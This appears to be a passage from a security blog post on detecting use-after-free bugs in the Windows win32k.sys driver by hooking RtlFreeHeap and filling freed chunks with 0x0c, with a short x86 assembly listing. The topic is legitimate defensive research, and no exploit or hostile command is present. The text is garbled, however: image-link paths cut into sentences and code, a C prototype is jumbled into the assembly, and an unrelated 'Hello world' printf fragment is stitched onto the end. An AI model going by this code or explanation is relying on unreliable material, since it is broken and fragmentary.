            mov     ebx,dword ptr [ebp+10h]
            int 3;
            BOOLEAN RtlFreeHeap
            IN PVOID  HeapHandle,
            IN ULONG  Flags,
            IN PVOID  HeapBase
            mov     ebx,dword ptr [ebp+10h] get HeapBasePUSH dword ptr [ebp+10h]
            PUSH dword ptr [ebp+0Ch]
            PUSH dword ptr [ebp+08h]
            call RtlSizeHeap;
            sub  ecx,ecx;
            mov ecx, eax; // sizefrom RtlSizeHeap
            mov eax, 0x0c
            mov edi, ebx; // address of heap chunk
            rep stos byte ptr es:[edi]

    with help of this function we candetect when win32k use freed heap memory. we can also automatically find out how OS useingfreed memory(does it use free memory to write/read/execute? )

    i cheked this Detector with some old UAFvulnerabilities in Win32k and Driver detect UAF in win32k.sys. maybe ther was another was to do this!?(i dont know maybe with gflags we can enable page heap for kernel)Source code

  • Hello world!printf("Hello World");